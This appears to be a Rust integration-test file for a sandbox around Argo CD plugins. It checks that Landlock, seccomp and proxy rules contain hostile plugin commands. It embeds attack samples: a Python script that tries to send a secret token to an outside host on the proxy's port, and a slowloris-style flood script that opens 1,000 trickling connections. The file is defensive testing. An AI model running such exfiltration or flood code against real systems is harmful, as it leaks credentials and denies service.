            .status()
            .expect("ip netns exec")
            .success()
    }

    /// Listen on `ports` (every address, IPv4 and IPv6) and print, a line each, what any
    /// connection sends.
    fn listen(&self, ports: &[u16]) -> Fixture {
        const LISTENER: &str = r#"
import socket, sys, threading
def serve(port):
    l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    l.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    l.bind(("::", port))
    l.listen(16)
    while True:
        c, a = l.accept()
        c.settimeout(3)
        try:
            data = c.recv(4096)
        except OSError:
            data = b""
        print("%s %s %r" % (port, a[0], data), flush=True)
        c.close()
for p in sys.argv[1:]:
    threading.Thread(target=serve, args=(int(p),), daemon=True).start()
print("listening", flush=True)
threading.Event().wait()
"#;
        let mut cmd = Command::new("ip");
        cmd.args(["netns", "exec", &self.ns, "python3", "-c", LISTENER]);
        cmd.args(ports.iter().map(u16::to_string));
        let mut child = cmd
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("outside listener");
        let mut line = String::new();
        let mut out = std::io::BufReader::new(child.stdout.take().expect("stdout"));
        std::io::BufRead::read_line(&mut out, &mut line).expect("listener");
        assert_eq!(line.trim(), "listening");
        // The rest is read by `received`.
        child.stdout = Some(out.into_inner());
        Fixture(child)
    }
}

impl Drop for OutsideHost {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["link", "del", &self.veth])
            .output();
        let _ = Command::new("ip").args(["netns", "del", &self.ns]).output();
    }
}

/// What a command without a network namespace of its own tries at its proxy's port on other
/// addresses (the finding: Landlock's TCP rule is a port, on any host): the outside host over
/// IPv4, IPv6 and an IPv4-mapped IPv6 address, retrying while refused (the test starts the
/// outside listener once it has seen the port), and what its socket says of itself; then the
/// honest request through the proxy.
const PROXY_PORT_ELSEWHERE: &str = r#"
import errno, json, os, socket, time
P = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
OUT4, OUT6 = os.environ["ARGOCD_ENV_OUT4"], os.environ["ARGOCD_ENV_OUT6"]
SECRET = os.environ["ARGOCD_ENV_SECRET"].encode()
out = {"port": str(P)}
def reach(family, addr):
    end = time.time() + 15
    while True:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(addr)
            s.sendall(b"token=" + SECRET)
            return "CONNECTED"
        except socket.timeout:
            return "denied:timeout"
        except OSError as e:
            if e.errno == errno.ECONNREFUSED and time.time() < end:
                time.sleep(0.2)
                continue
            return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
        finally:
            s.close()
s = socket.socket()
out["device"] = s.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).split(b"\0")[0].decode()
try:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"")
    out["unbind"] = "ALLOWED"
except OSError as e:
    out["unbind"] = "denied:" + errno.errorcode.get(e.errno, str(e.errno))
s6 = socket.socket(socket.AF_INET6)
out["device6"] = s6.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).split(b"\0")[0].decode()
out["outside_v4"] = reach(socket.AF_INET, (OUT4, P))
out["outside_v6"] = reach(socket.AF_INET6, (OUT6, P))
out["outside_mapped"] = reach(socket.AF_INET6, ("::ffff:" + OUT4, P))
# Listening needs no bind (listen takes an ephemeral port, which Landlock does not see): the
# socket is the seccomp listener's, bound to lo, so another host cannot reach it.
L = socket.socket()
L.listen(4)
out["listen_port"] = str(L.getsockname()[1])
out["listen_device"] = L.getsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, 16).split(b"\0")[0].decode()
try:
    socket.socket().bind(("0.0.0.0", 0))
    out["bind"] = "ALLOWED"
except OSError as e:
    out["bind"] = "denied:" + errno.errorcode.get(e.errno, str(e.errno))
# Straight to a local port that is not the proxy's: the listed Vault's, and the server's
# metrics port (Landlock's TCP rule names the proxy's port only).
def direct(port):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.connect(("127.0.0.1", int(port)))
        return "CONNECTED"
    except OSError as e:
        return "denied:" + errno.errorcode.get(e.errno, str(e.errno))
    finally:
        s.close()
out["direct_vault"] = direct(VAULT_PORT)
out["direct_metrics"] = direct(os.environ["ARGOCD_ENV_METRICS_PORT"])
s = socket.create_connection(("127.0.0.1", P), timeout=10)
s.sendall(b"GET http://vault.example.test:VAULT_PORT/v1/sys/health HTTP/1.1\r\nHost: vault.example.test\r\n\r\n")
out["honest"] = s.recv(4096).decode(errors="replace").split("\r\n", 1)[0]
time.sleep(float(os.environ.get("ARGOCD_ENV_HOLD", "0")))
L.setblocking(False)
accepted = 0
while True:
    try:
        L.accept()[0].close()
        accepted += 1
    except BlockingIOError:
        break
out["listen_accepted"] = str(accepted)
print(json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "egress"}, "data": out}))
"#;

/// The fourth attack round's high finding, attacked again: without a network namespace of the
/// jail's own, Landlock's TCP rule names only the proxy's port, so a command connected to that
/// port on another host and sent its token. Now every inet socket a command makes is the
/// seccomp listener's, bound to the loopback device (which the command cannot undo), and the
/// proxy's listener holds its port on every address of the pod: the outside host, listening
/// on the proxy's port over IPv4 and IPv6, receives nothing (IPv4, IPv6 and IPv4-mapped), no
/// other socket can listen on that port on any address, a local port that is not the proxy's
/// (the listed Vault's, the server's metrics port) is refused by Landlock (mutant: its TCP
/// rights reduced to bind -> both connected), and the honest request through the proxy works
/// in the same run.
#[test]
fn allow_list_without_a_network_namespace_reaches_the_proxys_port_on_no_other_host() {
    needs_root!(NEEDS_ROOT);
    let (_vault, vault_port) = fixture_on_any_port("vault-style", "vault.py");
    let vault_port = vault_port.to_string();
    let outside = OutsideHost::new();
    let pol = tempfile::tempdir().expect("tmp");
    let pol_file = pol.path().join("policy.yaml");
    let (first, count) = write_policy(
        &pol_file,
        &[
            (
                "network: {mode: none}",
                &"network: {mode: allowList, allow: [{host: vault.example.test, ports: [VAULT_PORT], internal: true}], hosts: {vault.example.test: [127.0.0.1]}}".replace("VAULT_PORT", &vault_port),
            ),
            (
                "namespaces: [mount, pid, net, ipc, uts, cgroup]",
                "namespaces: [mount, pid, ipc, uts, cgroup]",
            ),
        ],
    );
    let s = Server::start(
        &plugin("  generate: {command: [python3, attack.py]}\n"),
        &[
            "--policy",
            pol_file.to_str().expect("utf8"),
            "--metrics-address",
            "127.0.0.1:0",
        ],
    );
    let metrics_port = s.metrics_port();
    let r = repo(&[(
        "attack.py",
        &PROXY_PORT_ELSEWHERE.replace("VAULT_PORT", &vault_port),
    )]);
    let dir = r.path().to_str().expect("utf8").to_owned();
    let env = [
        format!("ARGOCD_ENV_METRICS_PORT={metrics_port}"),
        format!("ARGOCD_ENV_OUT4={}", outside.v4),
        format!("ARGOCD_ENV_OUT6={}", outside.v6),
        "ARGOCD_ENV_SECRET=team-a-token".to_owned(),
        "ARGOCD_ENV_HOLD=3".to_owned(),
    ];
    let sock = s.sock.clone();
    let request = std::thread::spawn(move || {
        let mut cmd = Command::new(go_client());
        cmd.arg("-socket")
            .arg(&sock)
            .args(["-rpc", "generate", "-dir", &dir]);
        for e in &env {
            cmd.args(["-env", e]);
        }
        cmd.output().expect("grpc client")
    });
    // The proxies' ports (the request's and the spare jail's), as the kernel lists them; the
    // outside host listens on each, and no one else in the pod can.
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut ports = Vec::new();
    while ports.len() < 2 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        ports = leased_listeners(first..first + count);
    }
    assert!(!ports.is_empty(), "no proxy listener seen\n{}", s.logs());
    let mut listener = outside.listen(&ports);
    for p in &ports {
        for addr in ["127.0.0.2", "127.0.0.1", "0.0.0.0"] {
            let taken = std::net::TcpListener::bind((addr, *p));
            assert!(
                taken
                    .as_ref()
                    .is_err_and(|e| e.kind() == std::io::ErrorKind::AddrInUse),
                "another socket could listen on {addr}:{p}: {taken:?}"
            );
        }
        let taken6 = std::net::TcpListener::bind(("::1", *p));
        assert!(
            taken6
                .as_ref()
                .is_err_and(|e| e.kind() == std::io::ErrorKind::AddrInUse),
            "another socket could listen on [::1]:{p}: {taken6:?}"
        );
    }
    // Then the command listens (its reach attempts are over once the outside host listens):
    // every listener a leased UID holds, the proxies and the command's own, which listen()
    // bound without bind(2), is out of another host's reach, being bound to lo.
    let proxies = ports.len();
    while ports.len() <= proxies && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
        ports = leased_listeners(first..first + count);
    }
    for p in &ports {
        for addr in [outside.pod_v4.as_str(), outside.pod_v6.as_str()] {
            assert!(
                !outside.reaches(addr, *p),
                "the outside host reached a leased listener at {addr} port {p}"
            );
        }
    }

    let out = request.join().expect("request");
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stderr),
            s.logs()
        )
    });
    let doc: serde_json::Value = serde_json::from_str(
        v["manifests"][0]
            .as_str()
            .unwrap_or_else(|| panic!("{v}\n{}", s.logs())),
    )
    .expect("json");
    let d = &doc["data"];
    assert!(
        ports
            .iter()
            .any(|p| d["port"].as_str() == Some(p.to_string().as_str())),
        "the command's proxy port is among those listened on: {d} {ports:?}"
    );
    // The reason claimed: its sockets are bound to the loopback, and stay so.
    assert_eq!(d["device"], "lo", "{d}");
    assert_eq!(d["device6"], "lo", "{d}");
    assert_eq!(d["unbind"], "denied:EPERM", "{d}");
    // Landlock refuses bind(2) to any port; a listen() without it takes an ephemeral port on
    // lo (SECURITY.md says so), which the outside host above could not reach.
    assert_eq!(d["bind"], "denied:EACCES", "{d}");
    assert_eq!(d["listen_device"], "lo", "{d}");
    assert!(
        ports
            .iter()
            .any(|p| d["listen_port"].as_str() == Some(p.to_string().as_str())),
        "the command's listener was among those tried from outside: {d} {ports:?}"
    );
    assert_eq!(d["listen_accepted"], "0", "{d}");
    // Local ports other than the proxy's: Landlock's EACCES (the network is the host's).
    assert_eq!(d["direct_vault"], "denied:EACCES", "{d}");
    assert_eq!(d["direct_metrics"], "denied:EACCES", "{d}");
    for k in ["outside_v4", "outside_v6", "outside_mapped"] {
        let r = d[k].as_str().unwrap_or_default();
        assert!(
            [
                "denied:ENETUNREACH",
                "denied:EHOSTUNREACH",
                "denied:timeout"
            ]
            .contains(&r),
            "{k}: {d}"
        );
    }
    assert_eq!(
        d["honest"], "HTTP/1.0 403 Forbidden",
        "Vault through the proxy: {d}"
    );
    // The outside host heard nothing.
    let _ = listener.0.kill();
    let mut heard = String::new();
    if let Some(mut o) = listener.0.stdout.take() {
        let _ = o.read_to_string(&mut heard);
    }
    assert!(
        heard.trim().is_empty(),
        "the outside host received: {heard}"
    );
    let event = s.audit_events().pop().expect("event");
    assert!(
        event.egress.iter().any(|c| c.decision == Decision::Allowed
            && c.destination == format!("vault.example.test:{vault_port}")),
        "{event}"
    );
    s.assert_work_dir_empties();
}

/// Writing a network policy from what a plugin does: seccomp audit mode shows inet sockets
/// under `network: none`; `policy suggest` proposes `allowList` in audit mode (keeping the
/// profile's socket rules); a run under that records the destination; suggesting again turns
/// it into the allow list, and the plugin runs under the result, reaching only that.
#[test]
fn policy_suggest_writes_the_allow_list_from_what_the_plugin_reached() {
    needs_root!(NEEDS_ROOT);
    let (_vault, vault_port) = fixture_on_any_port("vault-style", "vault.py");
    let t = tempfile::tempdir().expect("tmp");
    let cfg = t.path().join("plugin");
    std::fs::create_dir_all(&cfg).expect("mkdir");
    std::fs::write(
        cfg.join("plugin.yaml"),
        plugin("  generate:\n    command: [python3, -c]\n    args:\n      - |\n        import urllib.request, urllib.error\n        try:\n            urllib.request.urlopen('http://localhost:VAULT_PORT/v1/sys/health', timeout=5)\n        except urllib.error.HTTPError as e:\n            print('{\"apiVersion\": \"v1\", \"kind\": \"ConfigMap\", \"metadata\": {\"name\": \"reached\"}, \"data\": {\"status\": \"%d\"}}' % e.code)\n").replace("VAULT_PORT", &vault_port.to_string()),
    )
    .expect("plugin");
    let app = repo(&[("app.yaml", "x: 1\n")]);
    let render = |policy: &Path, log: &Path| {
        Command::new(bin())
            .arg("render")
            .arg(app.path())
            .arg("--config-dir-path")
            .arg(&cfg)
            .arg("--policy")
            .arg(policy)
            .arg("--audit-log")
            .arg(log)
            .output()
            .expect("render")
    };
    let suggest = |log: &Path, base: &Path, out: &Path| {
        let s = policy_suggest(log, base, out);
        let notes = String::from_utf8_lossy(&s.stderr).into_owned();
        assert!(s.status.success(), "{notes}");
        (
            std::fs::read_to_string(out.join("policy.yaml")).expect("policy"),
            notes,
        )
    };
    // 1. seccomp audit mode, network none: the connection fails, the sockets are recorded.
    let p1 = t.path().join("p1/policy.yaml");
    write_policy(&p1, &[("mode: enforce}", "mode: audit}")]);
    let log1 = t.path().join("1.jsonl");
    assert!(!render(&p1, &log1).status.success());
    let (yaml, notes) = suggest(&log1, &p1, &t.path().join("p2"));
    assert!(
        yaml.contains("mode: allowList") && yaml.contains("audit: true"),
        "{yaml}"
    );
    assert!(
        notes.contains("Do not deploy a policy with audit: true"),
        "{notes}"
    );
    let profile = std::fs::read_to_string(t.path().join("p2/seccomp/profile.json")).expect("p");
    assert!(
        profile.contains("\"socket\""),
        "the socket-family rules stay: {profile}"
    );
    // That run failed (its connection refused): its figures say nothing of a finished run,
    // so no limit is lowered from them.
    assert!(
        yaml.contains("memoryBytes: 1073741824")
            && yaml.contains("limits.memoryBytes: 1073741824 kept"),
        "quantities: {yaml}"
    );
    // 2. network audit: admitted and recorded.
    let log2 = t.path().join("2.jsonl");
    let out = render(&t.path().join("p2/policy.yaml"), &log2);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (yaml, notes) = suggest(
        &log2,
        &t.path().join("p2/policy.yaml"),
        &t.path().join("p3"),
    );
    assert!(
        yaml.contains(&format!(
            r#"- {{host: "localhost", ports: [{vault_port}], internal: true}}"#
        )) && !yaml.contains("audit: true"),
        "{yaml}\n{notes}"
    );
    // A run that finished: the limits come down to room above what it needed.
    assert!(
        yaml.contains("memoryBytes: ") && !yaml.contains("memoryBytes: 1073741824"),
        "quantities: {yaml}"
    );
    // 3. The suggested policy runs the plugin, and the connection is allowed, not audited.
    let log3 = t.path().join("3.jsonl");
    let out = render(&t.path().join("p3/policy.yaml"), &log3);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains(r#""status": "403""#), "{stdout}");
    let last: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(&log3)
            .expect("log")
            .lines()
            .last()
            .expect("event"),
    )
    .expect("json");
    assert_eq!(last["egress"][0]["decision"], "allowed", "{last}");
}

/// Argo CD's `AskPassService` as the repo-server runs it: the credentials of one nonce.
struct AskPass;

#[tonic::async_trait]
impl proto::askpass::ask_pass_service_server::AskPassService for AskPass {
    async fn get_credentials(
        &self,
        req: tonic::Request<proto::askpass::CredentialsRequest>,
    ) -> Result<tonic::Response<proto::askpass::CredentialsResponse>, tonic::Status> {
        if req.into_inner().nonce != "nonce-of-this-request" {
            return Err(tonic::Status::not_found("unknown nonce"));
        }
        Ok(tonic::Response::new(proto::askpass::CredentialsResponse {
            username: "argo".into(),
            password: "s3cret".into(),
        }))
    }
}

/// Serve the stand-in on a unix socket at `path` (in a thread of its own runtime).
fn askpass_service(path: &Path) {
    let listener = std::os::unix::net::UnixListener::bind(path).expect("bind askpass");
    listener.set_nonblocking(true).expect("nonblocking");
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        rt.block_on(async move {
            let l = tokio::net::UnixListener::from_std(listener).expect("tokio listener");
            let incoming = tokio_stream::wrappers::UnixListenerStream::new(l);
            let _ = tonic::transport::Server::builder()
                .add_service(
                    proto::askpass::ask_pass_service_server::AskPassServiceServer::new(AskPass),
                )
                .serve_with_incoming(incoming)
                .await;
        });
    });
}

/// `provideGitCreds`: git inside the jail clones a private repository over HTTPS; its
/// credentials come from the repo-server's askpass service (a stand-in here) through our
/// `argocd`-compatible helper and the proxy's relay — the socket itself is never reachable
/// from the jail. Without `provideGitCreds` the relay is refused and says why.
#[test]
fn a_git_fetching_plugin_gets_the_repo_servers_credentials_through_the_askpass_relay() {
    needs_root!(NEEDS_ROOT);
    let (_git, port) = fixture_on_any_port("git-fetch", "git-server.py");
    let placed = Placed::new("git-fetch", port);
    let example = placed.name();
    let t = tempfile::Builder::new()
        .prefix("cmpw-askpass")
        .tempdir()
        .expect("tmp");
    std::fs::set_permissions(
        t.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .expect("chmod");
    let sock = t.path().join("reposerver-ask-pass.sock");
    askpass_service(&sock);
    // `argocd` on the commands' PATH is this binary under that name (in the image: a symlink
    // beside it). A copy under /opt, which the policy already lets commands read: the build
    // directory may be under /tmp, which inside the jail is the request's own.
    let helper_dir = Path::new(TOOLS).join("test-askpass");
    std::fs::create_dir_all(&helper_dir).expect("mkdir");
    let helper = helper_dir.join("argocd");
    let tmp = helper_dir.join(format!("argocd.{}", std::process::id()));
    std::fs::copy(bin(), &tmp).expect("copy the binary");
    std::fs::rename(&tmp, &helper).expect("rename");
    let pol = t.path().join("policy");
    let p = example_policy(example, &pol);
    let path = format!("{}:{}", helper_dir.display(), path_with_tools());
    let plugin_yaml =
        std::fs::read_to_string(example_dir(example).join("plugin.yaml")).expect("plugin");
    let start = |plugin_yaml: &str| {
        Server::start_env(
            plugin_yaml,
            &[
                "--policy",
                p.to_str().expect("utf8"),
                "--allowed-uids",
                "any",
            ],
            &[
                ("PATH", path.as_str()),
                ("ARGOCD_ASK_PASS_SOCK", sock.to_str().expect("utf8")),
            ],
        )
    };
    // The repo-server's git credential environment for this request (contract §2.6).
    let creds_env = [
        "GIT_ASKPASS=argocd".to_owned(),
        "ARGOCD_GIT_ASKPASS_NONCE=nonce-of-this-request".to_owned(),
        "GIT_TERMINAL_PROMPT=0".to_owned(),
        "ARGOCD_BINARY_NAME=argocd-git-ask-pass".to_owned(),
        format!("ARGOCD_ASK_PASS_SOCK={}", sock.display()),
    ];
    let request = |s: &Server| {
        let dir = example_dir(example).join("repo");
        let mut args = vec!["-dir".to_owned(), dir.to_str().expect("utf8").to_owned()];
        args.extend([
            "-env".to_owned(),
            format!("ARGOCD_ENV_MANIFESTS_REPO=https://git.example.test:{port}/manifests.git"),
        ]);
        for e in &creds_env {
            args.extend(["-env".to_owned(), e.clone()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        go(s, "generate", &args)
    };
    let s = start(&plugin_yaml);
    let v = request(&s).unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
    assert_eq!(manifests(&v), expected(example));
    let event = s.audit_events().pop().expect("event");
    assert!(
        event
            .egress
            .iter()
            .any(|c| c.destination == "askpass.cmp-warden.invalid:1"
                && c.decision == Decision::Allowed),
        "{event}"
    );
    assert!(!s.logs().contains("s3cret"), "the password reached the log");
    drop(s);

    // The same plugin without provideGitCreds: no relay, and git's failure says why.
    let s = start(&plugin_yaml.replace("provideGitCreds: true", "provideGitCreds: false"));
    let (_, msg) = request(&s).expect_err("no credentials");
    assert!(
        msg.contains("git credentials are not available to this request: the plugin does not set provideGitCreds"),
        "{msg}"
    );
    drop(s);

    // The default policy (network: none): git's own error is about resolving the host; the
    // sandbox's note names the policy field.
    let d = Server::start_env(
        &plugin_yaml,
        &["--allowed-uids", "any"],
        &[
            ("PATH", path.as_str()),
            ("ARGOCD_ASK_PASS_SOCK", sock.to_str().expect("utf8")),
        ],
    );
    let (_, msg) = request(&d).expect_err("network: none");
    assert!(
        msg.contains("spec.network.mode is none; allowList with spec.network.allow"),
        "{msg}"
    );
}

/// `GIT_SSH_COMMAND` names a key file on the sidecar's filesystem (a Secret mounted read-only,
/// root-owned, mode 0444, which ssh accepts from another user): with its directory in
/// `filesystem.readOnly` ssh's own tooling reads it inside the jail — as the leased UID, which
/// has a passwd entry there (ssh refuses to run for a UID without one). Under the default
/// policy the read is refused, and the error names the field.
#[test]
fn ssh_keys_named_by_git_ssh_command_are_readable_where_the_policy_lists_them() {
    needs_root!(NEEDS_ROOT);
    use std::os::unix::fs::PermissionsExt;
    // Landlock's own record of the refused read names the field.
    let _audit =
        AuditOn::enable().unwrap_or_else(|e| panic!("kernel audit cannot be enabled here ({e})"));
    let dir = Path::new("/run/cmp-warden-tests/ssh");
    let _ = std::fs::remove_dir_all(dir);
    std::fs::create_dir_all(dir).expect("mkdir");
    for p in [dir.parent().expect("parent"), dir] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let key = dir.join("id_ed25519");
    let st = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "argocd", "-f"])
        .arg(&key)
        .status()
        .expect("ssh-keygen");
    assert!(st.success());
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o444)).expect("chmod");
    let public = std::fs::read_to_string(dir.join("id_ed25519.pub")).expect("pub");
    let public = public.trim();
    let ssh_command = format!(
        "ssh -i {} -o StrictHostKeyChecking=yes -o UserKnownHostsFile=/dev/null",
        key.display()
    );
    // The plugin reads the key the way git's ssh would be told to: from GIT_SSH_COMMAND.
    let spec = r#"  generate:
    command: [sh, -c]
    args:
      - |
        set -- $GIT_SSH_COMMAND
        pub=$(ssh-keygen -y -f "$3") || exit 1
        printf 'kind: KeyRead\nuser: %s\nkey: "%s"\n' "$(id -un)" "$pub"
"#;
    let r = repo(&[("cm.yaml", "kind: Repo\n")]);
    let run = |pol: &Path| {
        let s = Server::start(&plugin(spec), &["--policy", pol.to_str().expect("utf8")]);
        let out = go(
            &s,
            "generate",
            &[
                "-dir",
                r.path().to_str().expect("utf8"),
                "-env",
                &format!("GIT_SSH_COMMAND={ssh_command}"),
            ],
        );
        s.assert_work_dir_empties();
        out
    };
    let t = tempfile::tempdir().expect("tmp");
    let listed = t.path().join("listed/policy.yaml");
    write_policy(&listed, &[("/proc]", "/proc, /run/cmp-warden-tests/ssh]")]);
    let v = run(&listed).unwrap_or_else(|e| panic!("{e:?}"));
    let doc: serde_json::Value =
        serde_json::from_str(v["manifests"][0].as_str().expect("manifest")).expect("json");
    assert_eq!(doc["user"], "cmp-warden", "{doc}");
    assert_eq!(doc["key"], public, "{doc}");

    let default = t.path().join("default/policy.yaml");
    write_policy(&default, &[]);
    let (_, msg) = run(&default).expect_err("outside the policy's paths");
    assert!(msg.contains("id_ed25519"), "{msg}");
    assert!(msg.contains("spec.filesystem.readOnly"), "{msg}");
}

/// Opens 1,000 connections to the request's proxy and trickles a byte of a request head on
/// each every 300 ms for 4 s (past the proxy's 3 s... 10 s head deadline: the proxy answers
/// 408 or, past a cap, 503), then prints a ConfigMap naming how many connections it opened.
/// A repository without `flood` gets the ConfigMap at once.
const FLOOD: &str = r#"
import json, os, socket, time
if os.path.exists("flood"):
    host, port = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1].rsplit(":", 1)
    socks = []
    for _ in range(1000):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((host, int(port)))
        except BlockingIOError:
            pass
        socks.append(s)
    head = b"CONNECT localhost:1 HTTP/1.1\r\n"
    for i in range(14):
        time.sleep(0.3)
        for s in socks:
            try:
                s.send(head[i:i + 1])
            except OSError:
                pass
    opened = len(socks)
else:
    opened = 0
print(json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "flood"}, "data": {"opened": str(opened)}}))
"#;

/// Three requests each open 1,000 connections to their proxies and trickle bytes on them:
/// the server's threads stay within a few dozen of idle (the proxies' connections are tasks
/// on one small runtime, and past the caps they are refused), and an honest request sent
/// meanwhile succeeds.
#[test]
fn trickling_floods_through_three_proxies_leave_the_servers_threads_bounded() {
    needs_root!(NEEDS_ROOT);
    let pol = tempfile::tempdir().expect("tmp");
    let pol_file = pol.path().join("policy.yaml");
    write_policy(
        &pol_file,
        &[(
            "network: {mode: none}",
            "network: {mode: allowList, allow: [{host: localhost, ports: [9], internal: true}], maxConnections: 1000}",
        )],
    );
    let s = Server::start(
        &plugin("  generate: {command: [python3, flood.py]}\n"),
        &["--policy", pol_file.to_str().expect("utf8")],
    );
    let pid = s.child.as_ref().expect("server").id();
    let threads = || -> usize {
        std::fs::read_dir(format!("/proc/{pid}/task"))
            .map(|d| d.count())
            .unwrap_or(0)
    };
    let flood = repo(&[("flood.py", FLOOD), ("flood", "")]);
    let honest = repo(&[("flood.py", FLOOD)]);
    // Idle: after a first request, so every lazily started pool exists.
    let v = go(
        &s,
        "generate",
        &["-dir", honest.path().to_str().expect("utf8")],
    )
    .unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
    assert!(v["manifests"][0].as_str().expect("m").contains("flood"));
    s.wait_settled(1);
    let idle = threads();
    let floods: Vec<_> = (0..3)
        .map(|_| {
            let sock = s.sock.clone();
            let dir = flood.path().to_str().expect("utf8").to_owned();
            std::thread::spawn(move || {
                let out = Command::new(go_client())
                    .arg("-socket")
                    .arg(&sock)
                    .args(["-rpc", "generate", "-dir", &dir, "-timeout", "60s"])
                    .output()
                    .expect("grpc client");
                parse_client_output(&out)
            })
        })
        .collect();
    let mut most = idle;
    let t0 = Instant::now();
    let mut honest_ok = None;
    while t0.elapsed() < Duration::from_secs(5) {
        most = most.max(threads());
        if honest_ok.is_none() && t0.elapsed() > Duration::from_secs(2) {
            honest_ok = Some(go(
                &s,
                "generate",
                &["-dir", honest.path().to_str().expect("utf8")],
            ));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let honest_ok = honest_ok.expect("sent");
    assert!(
        honest_ok.is_ok(),
        "the honest request failed beside the floods: {honest_ok:?}"
    );
    for f in floods {
        let v = f
            .join()
            .expect("thread")
            .unwrap_or_else(|e| panic!("{e:?}\n{}", s.logs()));
        assert!(
            v["manifests"][0]
                .as_str()
                .expect("m")
                .contains("\"opened\": \"1000\""),
            "{v}"
        );
    }
    assert!(
        most <= idle + 40,
        "the server went from {idle} threads idle to {most} under 3 x 1,000 proxy connections"
    );
    // The audit events record each request's connections within the record bound.
    let logs = s.logs();
    let events = audit_events_in(&logs);
    let flooded: Vec<_> = events.iter().filter(|e| e.egress.len() > 1).collect();
    assert_eq!(flooded.len(), 3, "{logs}");
    for e in flooded {
        assert!(e.egress.len() <= 256);
    }
}
